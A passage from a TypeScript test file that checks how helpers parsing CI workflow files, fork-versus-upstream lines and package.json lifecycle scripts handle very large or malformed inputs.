  expect([...startsOf('.gitlab-ci.yml', Buffer.from(usual))]).toEqual(['job job'])
})

test.each([
  ['steps', `on: push\njobs:\n  a:\n    steps:\n${'      - run: x\n'.repeat(60_000)}`],
  ['jobs', `on: push\njobs:\n${Array.from({ length: 60_000 }, (_, at) => `  a${at}: {}\n`).join('')}`],
  [
    'filters',
    `on: {push: {branches: [${Array.from({ length: 60_000 }, (_, at) => `b${at}`).join()}]}}\njobs: {a: {}}\n`,
  ],
])('a workflow with very many %s is not compared thing by thing', (_, yaml) => {
  expect([...startsOf(CI, Buffer.from(yaml))]).toEqual(['anything'])
})

test('hundreds of thousands of lines of upstream are not compared with each line of the fork', () => {
  const lines = (word: string, count: number) =>
    Buffer.from(Array.from({ length: count }, (_, at) => `w ${word}${at}`).join('\n'))
  const [ours, theirs] = [lines('ours', 100), lines('theirs', 300_000)]
  // The words of this line are only in the last line of each side: to find them, all lines would have to be compared,
  // so the search gives up.
  expect(isOfBothSides(Buffer.from('w ours99 theirs299999'), [ours, theirs, undefined])).toBe(false)
  expect(isOfBothSides(Buffer.from('w ours9 theirs9'), [lines('ours', 10), lines('theirs', 10), undefined])).toBe(true)
})

test('a file that is not a package has no scripts', () => {
  for (const json of ['', '[', 'null', '[]', '{"scripts": []}', '{"scripts": {"test": "x"}}'])
    expect(lifecycleScripts(Buffer.from(json))).toEqual([])
})
